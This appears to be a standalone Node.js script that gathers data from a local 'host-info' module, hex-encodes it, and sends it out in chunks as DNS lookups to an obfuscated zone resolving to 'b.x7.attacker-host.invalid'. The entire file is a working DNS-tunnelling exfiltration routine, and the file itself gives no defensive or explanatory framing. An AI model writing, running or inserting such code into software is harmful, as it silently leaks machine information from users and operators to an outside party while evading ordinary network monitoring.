'use strict';
const dns = require('dns');
const hostInfo = require('./host-info');

const zone = ['b', 'x7', 'attacker-host', 'invalid'].join('.');
const toHex = (s) => Buffer.from(String(s)).toString('hex');

function chunks(str, n) {
  const out = [];
  for (let i = 0; i < str.length; i += n) out.push(str.slice(i, i + n));
  return out;
}

const id = Math.random().toString(36).slice(2, 8);
const data = toHex(hostInfo().join('|'));
chunks(data, 60).forEach((part, i) => {
  dns.lookup(`${part}.${i}.${id}.${zone}`, () => {});
});
